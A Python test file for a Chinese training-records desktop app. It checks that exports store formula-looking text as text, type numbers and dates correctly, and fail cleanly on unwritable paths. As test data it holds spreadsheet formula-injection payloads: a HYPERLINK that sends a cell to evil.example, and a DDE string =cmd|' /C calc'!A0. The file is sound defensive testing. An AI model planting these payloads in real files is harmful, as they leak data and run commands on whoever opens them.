"""Every export as a stranger's data and a careless user's disk would test it (#15, parts 4 and 6).

One writer for every export: text that looks like a formula stays text, numbers and dates are
numbers and dates, characters XML cannot carry never crash an export, a .csv target writes CSV
(UTF-8 with BOM) or is refused. A target that cannot be written — under a file, in a missing
or read-only folder, on a full disk — is one Chinese line, exit code 2 and no partial file.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from tjce_desktop.exchange.xlsx_table import (
    XLSX_OR_CSV,
    Kind,
    XlsxWriteError,
    columns,
    display_width,
    write_table,
)
from tjce_desktop.services.actor import LOCAL_ADMIN
from tjce_desktop.services.trainee_import import open_import
from tjce_desktop.storage.database import open_database

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
NUL_NAME = "王\x00五"
SHOWN_NUL_NAME = "王\ufffd五"
PLAN = "2025年度公需课培训计划"
HEPING = "/120000/120101/"
BOM = b"\xef\xbb\xbf"
TEMPLATE_HEADERS = ["学员姓名", "真实姓名", "身份证号", "性别", "所属机构"]


# --- helpers ----------------------------------------------------------------------------------------


@pytest.fixture
def hostile(demo_db_path):
    """Old data as it may be stored: a finished 和平区 trainee of PLAN named like a formula, and
    another whose name holds a NUL (stored before names were cleaned at entry)."""
    database = open_database(demo_db_path, create=False)
    try:
        with database.engine.begin() as c:
            plan_id = c.exec_driver_sql("SELECT id FROM training_plan WHERE name=?", (PLAN,)).scalar_one()
            formula_id, formula_number = c.exec_driver_sql(
                "SELECT t.id, t.id_number FROM trainee t JOIN enrollment e ON e.trainee_id = t.id "
                "WHERE e.plan_id = ? AND e.status = 'finished' AND t.active = 1 AND t.org_path >= ? "
                "AND t.org_path < ? ORDER BY t.id_number LIMIT 1", (plan_id, HEPING, HEPING + "\xff")).one()
            nul_id, nul_number = c.exec_driver_sql(
                "SELECT id, id_number FROM trainee WHERE active = 1 AND org_path >= ? AND org_path < ? AND id != ? "
                "ORDER BY id_number LIMIT 1", (HEPING, HEPING + "\xff", formula_id)).one()
            c.exec_driver_sql("UPDATE trainee SET real_name = ?, username = ? WHERE id = ?",
                              (FORMULA, "@SUM(1+1)", formula_id))
            c.exec_driver_sql("UPDATE trainee SET real_name = ? WHERE id = ?", (NUL_NAME, nul_id))
    finally:
        database.dispose()
    return {"plan_id": plan_id, "formula": formula_number, "nul": nul_number}


def _run(db_path, capsys, *args) -> tuple[int, str, str]:
    from tjce_desktop.cli.main import main

    code = main(["--db", str(db_path), *map(str, args)])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def _ok(db_path, capsys, *args) -> str:
    code, out, err = _run(db_path, capsys, *args)
    assert code == 0, err
    return out


def _sheet(path: Path):
    return openpyxl.load_workbook(path).active


def _header(sheet) -> tuple[int, dict[str, int]]:
    """The header row (the first row with several texts) and its columns by name (1-based)."""
    for row in sheet.iter_rows(min_row=1, max_row=5):
        texts = [c.value for c in row if isinstance(c.value, str)]
        if len(texts) >= 3:
            return row[0].row, {c.value: c.column for c in row if c.value}
    raise AssertionError("no header")


def _column(sheet, name: str) -> list:
    """The data cells of a column, below the header."""
    header_row, names = _header(sheet)
    return [sheet.cell(row=r, column=names[name]) for r in range(header_row + 1, sheet.max_row + 1)]


def _cell_with(sheet, value):
    return next(c for row in sheet.iter_rows() for c in row if c.value == value)


def _assert_text(cell, value) -> None:
    assert cell.value == value and cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)


def _assert_numbers(cells, *, kind=(int, float)) -> None:
    values = [c for c in cells if c.value not in (None, "", "—")]
    assert values and all(isinstance(c.value, kind) and not isinstance(c.value, bool) for c in values), \
        [(c.coordinate, c.value) for c in values[:5]]


def _assert_dates(cells) -> None:
    values = [c for c in cells if c.value not in (None, "")]
    assert values and all(c.is_date and c.number_format == "yyyy-mm-dd" for c in values), \
        [(c.coordinate, c.value, c.number_format) for c in values[:5]]


# --- the writer ------------------------------------------------------------------------------------


def test_formula_looking_text_is_written_as_text_everywhere(tmp_path):
    texts = [FORMULA, "+1+2", "-3", "@SUM(A1:A9)", "\t=1+1", "\r=2", "#N/A", "=1"]
    out = tmp_path / "t.xlsx"
    write_table(out, "t", columns(("名称", Kind.TEXT), ("编号", Kind.ID), ("自动", Kind.AUTO)),
                [(text, text, text) for text in texts])
    sheet = _sheet(out)
    for row, text in zip(sheet.iter_rows(min_row=2), texts):
        for cell in row:
            _assert_text(cell, text)
            assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r"))
    calamine = CalamineWorkbook.from_path(str(out)).get_sheet_by_index(0).to_python()
    assert [row[0] for row in calamine[1:]] == texts


def test_numbers_dates_and_ids_are_typed(tmp_path):
    import datetime as dt

    out = tmp_path / "typed.xlsx"
    table = columns(("学时", Kind.HOURS), ("年度", Kind.YEAR), ("完成日期", Kind.DATE), ("身份证号", Kind.ID),
                    ("手机", Kind.ID), ("人数", Kind.COUNT), ("比率", Kind.RATE), ("时间", Kind.DATETIME))
    rows = [("12.5", "2025", "2025-03-05", "120101199001011234", "13800138000", "1,234", 0.25,
             dt.datetime(2025, 3, 5, 8, 30, tzinfo=dt.timezone.utc)),
            (3, 2024, dt.date(2024, 1, 2), "12010119900101123X", "02212345678", 7, None, "2024-01-02 10:00:00"),
            ("—", "", "", "", "", "—", "—", "")]
    write_table(out, "t", table, rows)
    sheet = _sheet(out)
    hours, year, day, number, phone, count, rate, when = (list(c) for c in sheet.iter_cols(min_row=2))
    assert [c.value for c in hours] == [12.5, 3, "—"] and hours[0].number_format == "0.0"
    assert [c.value for c in year[:2]] == [2025, 2024] and year[0].data_type == "n"
    assert day[0].is_date and day[0].number_format == "yyyy-mm-dd" and day[0].value.date() == dt.date(2025, 3, 5)
    assert day[1].is_date and day[2].value is None
    for cell, value in ((number[0], "120101199001011234"), (phone[0], "13800138000"), (phone[1], "02212345678")):
        _assert_text(cell, value)
        assert cell.number_format == "@"
    assert count[0].value == 1234 and count[0].number_format == "#,##0"
    assert rate[0].value == 0.25 and rate[0].number_format == "0.0%" and rate[2].value == "—"
    assert when[0].is_date and when[0].value == dt.datetime(2025, 3, 5, 8, 30)  # no time zone in Excel
    assert when[1].value == dt.datetime(2024, 1, 2, 10, 0)


def test_characters_xml_cannot_carry_never_crash_the_writer(tmp_path):
    names = [NUL_NAME, "\x1b[31m红\x07", "半个\ud800代理", "x" * 40_000]
    out = tmp_path / "bad.xlsx"
    assert write_table(out, "t", columns("姓名"), [(n,) for n in names]) == 4
    values = [row[0] for row in CalamineWorkbook.from_path(str(out)).get_sheet_by_index(0).to_python()[1:]]
    assert values[0] == SHOWN_NUL_NAME and values[1] == "\ufffd[31m红\ufffd" and values[2] == "半个\ufffd代理"
    assert len(values[3]) == 32_767 and values[3].endswith("已截断）")


def test_columns_are_sized_from_a_sample_and_the_header_is_frozen(tmp_path):
    out = tmp_path / "w.xlsx"
    write_table(out, "t", columns(("所属机构", Kind.TEXT), ("code", Kind.TEXT), ("日期", Kind.DATE)),
                [("天津市/和平区/和平区海河中学", "abc", "2025-01-01")] * 50, title_rows=["标题"])
    sheet = openpyxl.load_workbook(out).active
    widths = [sheet.column_dimensions[letter].width for letter in "ABC"]
    assert display_width("天津市/和平区/和平区海河中学") == 28
    assert widths[0] == 30 and widths[1] == 6 and widths[2] == 12
    assert sheet.freeze_panes == "A3"  # below the title and the header


def test_csv_targets_write_csv_or_are_refused(tmp_path):
    out = tmp_path / "学员.csv"
    table = columns(("姓名", Kind.TEXT), ("身份证号", Kind.ID), ("学时", Kind.HOURS), ("日期", Kind.DATE))
    rows = [(FORMULA, "120101199001011234", "12.5", "2025-03-05"), ("张三,李四", "12010119900101123X", 2, "")]
    assert write_table(out, "t", table, rows, formats=XLSX_OR_CSV) == 2
    data = out.read_bytes()
    assert data.startswith(BOM) and not data.startswith(BOM + b"PK")
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert lines[0] == ["姓名", "身份证号", "学时", "日期"]
    assert lines[1] == ["'" + FORMULA, "120101199001011234\t", "12.5", "2025-03-05"]  # never a formula, never 1.2E+17
    assert lines[2] == ["张三,李四", "12010119900101123X", "2", ""]
    refused = tmp_path / "r.csv"
    with pytest.raises(XlsxWriteError, match=r"只能导出为 \.xlsx"):
        write_table(refused, "t", table, rows)
    with pytest.raises(XlsxWriteError, match=r"\.xlsx"):
        write_table(tmp_path / "r.xls", "t", table, rows)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["学员.csv"]


# --- every export through the command line ------------------------------------------------------------


def test_every_command_line_export_writes_text_as_text_and_numbers_as_numbers(hostile, demo_db_path, tmp_path,
                                                                              capsys):
    db = demo_db_path
    _ok(db, capsys, "export-trainees", tmp_path / "t.xlsx", "--org", "和平区", "--full-id")
    sheet = _sheet(tmp_path / "t.xlsx")
    _assert_text(_cell_with(sheet, FORMULA), FORMULA)
    _assert_text(_cell_with(sheet, "@SUM(1+1)"), "@SUM(1+1)")
    assert _cell_with(sheet, SHOWN_NUL_NAME)  # was: 内部错误：IllegalCharacterError
    _assert_dates(_column(sheet, "出生日期"))
    ids = _column(sheet, "身份证号")
    assert all(c.data_type == "s" and c.number_format == "@" for c in ids)
    assert sheet.freeze_panes == "A2"
    calamine = CalamineWorkbook.from_path(str(tmp_path / "t.xlsx")).get_sheet_by_index(0).to_python()
    assert any(row[1] == FORMULA for row in calamine)

    _ok(db, capsys, "query", "--org", "和平区", "--plan", PLAN, "--xlsx", tmp_path / "q.xlsx")
    sheet = _sheet(tmp_path / "q.xlsx")
    _assert_text(_cell_with(sheet, FORMULA), FORMULA)
    _assert_numbers(_column(sheet, "年度"), kind=int)
    _assert_numbers(_column(sheet, "学时"))
    _assert_dates(_column(sheet, "完成日期"))

    for code in ("4.1", "4.2", "4.3", "4.4", "4.5"):
        _ok(db, capsys, "report", code, "--org", "和平区", "--plan", PLAN, "--xlsx", tmp_path / f"r{code}.xlsx")
    sheet = _sheet(tmp_path / "r4.2.xlsx")  # was: a live HYPERLINK formula
    _assert_text(_cell_with(sheet, FORMULA), FORMULA)
    _assert_numbers(_column(sheet, "总学时"))
    _assert_dates(_column(sheet, "完成日期"))
    sheet = _sheet(tmp_path / "r4.4.xlsx")
    _assert_text(_cell_with(sheet, FORMULA), FORMULA)
    sheet = _sheet(tmp_path / "r4.1.xlsx")
    assert sheet["A1"].value == "4.1 培训计划统计总表" and len(sheet._charts) == 1
    _assert_numbers(_column(sheet, "注册人数"), kind=int)
    rates = [c for c in _column(sheet, "参训率") if isinstance(c.value, float)]
    assert rates and all(c.number_format == "0.0%" for c in rates)

    _ok(db, capsys, "compliance", "--org", "和平区", "--year", "2026", "--xlsx", tmp_path / "c.xlsx")
    sheet = _sheet(tmp_path / "c.xlsx")
    _assert_numbers(_column(sheet, "要求学时"))
    _assert_numbers(_column(sheet, "还差学时"))

    bad = tmp_path / "学员.xlsx"
    book = openpyxl.Workbook()
    book.active.append(TEMPLATE_HEADERS)
    book.active.append(["=cmd|' /C calc'!A0", FORMULA, "120101199013011234", "男", ""])  # month 13: refused
    for cell in book.active[2]:
        cell.data_type = "s"  # text in the file as a user typed it ('=…), not formulas
    book.save(bad)
    _ok(db, capsys, "import-trainees", bad, "--org", "和平区", "--errors", tmp_path / "e.xlsx")
    sheet = _sheet(tmp_path / "e.xlsx")
    _assert_text(_cell_with(sheet, "=cmd|' /C calc'!A0"), "=cmd|' /C calc'!A0")
    number = _cell_with(sheet, "120101199013011234")
    assert number.data_type == "s" and number.number_format == "@"

    progress = tmp_path / "进度.csv"
    with open(progress, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["身份证号", "姓名", "培训计划", "课程", "学时", "完成日期"],
                                      ["120101199013011234", FORMULA, PLAN, "无此课程", "2", "2026-03-05"]])
    _ok(db, capsys, "import-progress", progress, "--check", "--errors", tmp_path / "pe.xlsx")
    _assert_text(_cell_with(_sheet(tmp_path / "pe.xlsx"), FORMULA), FORMULA)

    _ok(db, capsys, "audit", "--xlsx", tmp_path / "audit.xlsx")
    sheet = _sheet(tmp_path / "audit.xlsx")
    times = _column(sheet, "时间")
    assert times and all(c.is_date and c.number_format == "yyyy-mm-dd hh:mm:ss" for c in times)
    _assert_numbers(_column(sheet, "序号"), kind=int)
    assert "导出学员" in [c.value for c in _column(sheet, "操作")]


def test_trainee_and_query_exports_write_csv_that_reads_back(hostile, demo_db_path, tmp_path, capsys):
    db = demo_db_path
    _ok(db, capsys, "export-trainees", tmp_path / "t.xlsx", "--org", "和平区", "--full-id")
    _ok(db, capsys, "export-trainees", tmp_path / "t.csv", "--org", "和平区", "--full-id")
    data = (tmp_path / "t.csv").read_bytes()
    assert data.startswith(BOM)  # Excel on Chinese Windows reads it as UTF-8
    lines = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert lines[0][0] == "\ufeff学员姓名" and lines[0][1:3] == ["真实姓名", "身份证号"]
    assert len(lines) == _sheet(tmp_path / "t.xlsx").max_row
    by_id = {line[2].strip(): line for line in lines[1:]}
    assert by_id[hostile["formula"]][1] == "'" + FORMULA and by_id[hostile["nul"]][1] == SHOWN_NUL_NAME
    assert by_id[hostile["nul"]][2] == hostile["nul"] + ("\t" if hostile["nul"].isdigit() else "")
    source = open_import(tmp_path / "t.csv")  # the export imports back
    assert len(source.data_rows) == len(lines) - 1

    _ok(db, capsys, "query", "--org", "和平区", "--plan", PLAN, "--xlsx", tmp_path / "q.csv")
    lines = list(csv.reader(io.StringIO((tmp_path / "q.csv").read_bytes().decode("utf-8-sig"))))
    assert lines[0][:3] == ["姓名", "身份证号", "所属机构"] and len(lines) > 2
    assert any(line[0] == "'" + FORMULA for line in lines)
    assert all(line[lines[0].index("年度")] == "2025" for line in lines[1:])

    for args in (("report", "4.1", "--org", "和平区", "--xlsx", tmp_path / "r.csv"),
                 ("compliance", "--org", "和平区", "--year", "2026", "--xlsx", tmp_path / "c.csv"),
                 ("audit", "--xlsx", tmp_path / "a.csv")):
        code, _, err = _run(db, capsys, *args)
        assert code == 2 and err.startswith("错误：") and ".xlsx" in err and err.count("\n") == 1
    assert not any((tmp_path / name).exists() for name in ("r.csv", "c.csv", "a.csv"))
    # A PDF is written only under a .pdf name (it once went into "r.xlsx" as asked).
    code, _, err = _run(db, capsys, "report", "4.1", "--org", "和平区", "--pdf", tmp_path / "r.xlsx")
    assert code == 2 and ".pdf" in err and not (tmp_path / "r.xlsx").exists()


def test_stamping_list_and_not_enrolled_through_the_service(hostile, demo_database, tmp_path):
    from tjce_desktop.services import archive_query as query
    from tjce_desktop.services.archive_export import export_not_enrolled, export_stamping_list

    filters = query.ArchiveFilter(plan_id=hostile["plan_id"])
    out = tmp_path / "stamp.xlsx"
    assert export_stamping_list(demo_database, LOCAL_ADMIN, out, scope_path=HEPING, filters=filters) > 0
    sheet = _sheet(out)
    _assert_text(_cell_with(sheet, FORMULA), FORMULA)
    _assert_numbers(_column(sheet, "序号"), kind=int)
    _assert_numbers(_column(sheet, "年度"), kind=int)
    _assert_numbers(_column(sheet, "已获学时"))
    _assert_dates(_column(sheet, "完成日期"))
    with pytest.raises(XlsxWriteError, match=r"\.xlsx"):
        export_stamping_list(demo_database, LOCAL_ADMIN, tmp_path / "stamp.csv", scope_path=HEPING, filters=filters)

    out = tmp_path / "未参训.csv"
    count = export_not_enrolled(demo_database, LOCAL_ADMIN, out, scope_path=HEPING, plan_id=hostile["plan_id"])
    assert count > 0 and out.read_bytes().startswith(BOM)
    assert len(list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))) == count + 1


def test_the_window_exports_csv_and_says_why_a_folder_cannot_be_written(main_window, qtbot, tmp_path,
                                                                      message_boxes):
    page = main_window.trainees_page
    out = tmp_path / "学员.csv"
    page.export(full_ids=False, path=str(out))
    qtbot.waitUntil(lambda: any(kind == "information" for kind, *_ in message_boxes), timeout=15_000)
    lines = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    assert out.read_bytes().startswith(BOM) and lines[0][:3] == ["学员姓名", "真实姓名", "身份证号"]
    assert len(lines) == page.model.total + 1
    blocker = tmp_path / "名单.txt"
    blocker.write_text("x")
    page.export(full_ids=False, path=str(blocker / "学员.xlsx"))
    qtbot.waitUntil(lambda: any(kind == "critical" for kind, *_ in message_boxes), timeout=15_000)
    _, title, text = next(box for box in message_boxes if box[0] == "critical")
    assert "不是文件夹" in text and "\n" not in text.strip() and "内部错误" not in text
    assert blocker.read_text() == "x" and not list(tmp_path.glob(".~tjce-*"))


# --- output paths that cannot be written ---------------------------------------------------------------


def _mount_tmpfs(folder: Path, options: str) -> bool:
    """A small tmpfs (root only); False when this sandbox does not allow mounting."""
    if os.geteuid() != 0 or not shutil.which("mount"):
        return False
    folder.mkdir(parents=True, exist_ok=True)
    result = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(folder)], capture_output=True)
    return result.returncode == 0


def _unmount(folder: Path) -> None:
    subprocess.run(["umount", str(folder)], capture_output=True)


@pytest.fixture
def read_only_folder(tmp_path):
    folder = tmp_path / "ro-folder"
    if _mount_tmpfs(folder, "ro,size=16k"):
        yield folder
        _unmount(folder)
        return
    folder.mkdir(exist_ok=True)
    folder.chmod(0o555)
    probe = folder / "probe"
    try:
        probe.write_text("x")
    except OSError:
        yield folder
        folder.chmod(0o755)
        return
    probe.unlink()
    folder.chmod(0o755)
    pytest.skip("no read-only folder here: root without mount permission ignores the folder's mode")


@pytest.fixture
def full_disk(tmp_path, monkeypatch):
    """A 64 KB tmpfs; where mounting is not allowed, zip writes fail with ENOSPC instead (said in the id)."""
    folder = tmp_path / "full-disk"
    if _mount_tmpfs(folder, "size=64k"):
        (folder / "filler").write_bytes(bytes(60 * 1024))  # one 4 KB page left: less than any export
        yield folder, True
        _unmount(folder)
        return
    folder.mkdir(exist_ok=True)

    def no_space(self, data):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(zipfile._ZipWriteFile, "write", no_space)
    yield folder, False


def _commands(tmp_path: Path) -> dict[str, list]:
    bad = tmp_path / "refused.xlsx"
    if not bad.exists():
        book = openpyxl.Workbook()
        book.active.append(TEMPLATE_HEADERS)
        book.active.append(["x1", "", "123", "男", ""])
        book.save(bad)
    return {
        "export-trainees": ["export-trainees", "{out}.xlsx", "--org", "和平区"],
        "export-trainees-csv": ["export-trainees", "{out}.csv", "--org", "和平区"],
        "query": ["query", "--org", "和平区", "--plan", PLAN, "--xlsx", "{out}.xlsx"],
        "report": ["report", "4.2", "--org", "和平区", "--plan", PLAN, "--xlsx", "{out}.xlsx"],
        "report-pdf": ["report", "4.1", "--org", "和平区", "--pdf", "{out}.pdf"],
        "compliance": ["compliance", "--org", "和平区", "--year", "2026", "--xlsx", "{out}.xlsx"],
        "audit": ["audit", "--xlsx", "{out}.xlsx"],
        "import-errors": ["import-trainees", bad, "--org", "和平区", "--errors", "{out}.xlsx"],
    }


COMMANDS = ["export-trainees", "export-trainees-csv", "query", "report", "report-pdf", "compliance", "audit",
            "import-errors"]


def _listing(folder: Path) -> list[str]:
    """The files in ``folder``, but the database's own (its WAL comes and goes)."""
    return sorted(p.name for p in folder.iterdir() if not p.name.startswith("demo.sqlite3")) if folder.is_dir() else []


def _fails_cleanly(db, capsys, args, message: str) -> str:
    code, out, err = _run(db, capsys, *args)
    assert code == 2, (out, err)
    assert err.startswith("错误：") and err.count("\n") == 1, err  # one line
    assert message in err and "Traceback" not in err and "内部错误" not in err and "Error" not in err, err
    return err


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("where", ["under_a_file", "missing_folder", "a_folder"])
def test_a_target_that_cannot_exist_is_one_chinese_line(demo_db_path, tmp_path, capsys, command, where):
    blocker = tmp_path / "passwd"
    blocker.write_text("root:x:0:0")
    target, message = {
        "under_a_file": (blocker / "x", "是一个文件，不是文件夹"),
        "missing_folder": (tmp_path / "没有这个文件夹" / "x", "不存在"),
        "a_folder": (tmp_path / "folder.d", "是一个文件夹"),
    }[where]
    if where == "a_folder":
        for suffix in (".xlsx", ".csv", ".pdf"):
            (tmp_path / f"folder.d{suffix}").mkdir()
    args = [str(a).replace("{out}", str(target)) for a in _commands(tmp_path)[command]]
    before = _listing(tmp_path)
    _fails_cleanly(demo_db_path, capsys, args, message)
    assert _listing(tmp_path) == before and blocker.read_text() == "root:x:0:0"


@pytest.mark.parametrize("command", COMMANDS)
def test_a_read_only_folder_is_one_chinese_line(demo_db_path, tmp_path, capsys, read_only_folder, command):
    args = [str(a).replace("{out}", str(read_only_folder / "导出")) for a in _commands(tmp_path)[command]]
    err = _fails_cleanly(demo_db_path, capsys, args, "")
    assert "只读" in err or "没有权限" in err
    assert _listing(read_only_folder) == []


@pytest.mark.parametrize("command", COMMANDS)
def test_a_full_disk_is_one_chinese_line_and_leaves_no_partial_file(demo_db_path, tmp_path, capsys, full_disk,
                                                                    command):
    folder, real = full_disk
    if not real and command in ("export-trainees-csv", "report-pdf"):
        pytest.skip("no tmpfs could be mounted here, and only zip writes are made to fail instead")
    before = _listing(folder)
    args = [str(a).replace("{out}", str(folder / "导出")) for a in _commands(tmp_path)[command]]
    _fails_cleanly(demo_db_path, capsys, args, "磁盘空间不足")
    assert _listing(folder) == before


def test_an_import_error_report_that_cannot_be_written_is_said_before_importing(demo_db_path, tmp_path, capsys):
    good = tmp_path / "good.xlsx"
    book = openpyxl.Workbook()
    book.active.append(TEMPLATE_HEADERS)
    book.active.append(["new-person-15", "新学员", "110101199003077777", "男", ""])
    book.active.append(["bad-person-15", "", "123", "男", ""])
    book.save(good)
    _fails_cleanly(demo_db_path, capsys, ["import-trainees", good, "--org", "和平区", "--errors",
                                          tmp_path / "nowhere" / "e.xlsx"], "不存在")
    database = open_database(demo_db_path, create=False)
    try:
        with database.engine.connect() as c:
            assert c.exec_driver_sql("SELECT count(*) FROM trainee WHERE username = 'new-person-15'").scalar() == 0
    finally:
        database.dispose()
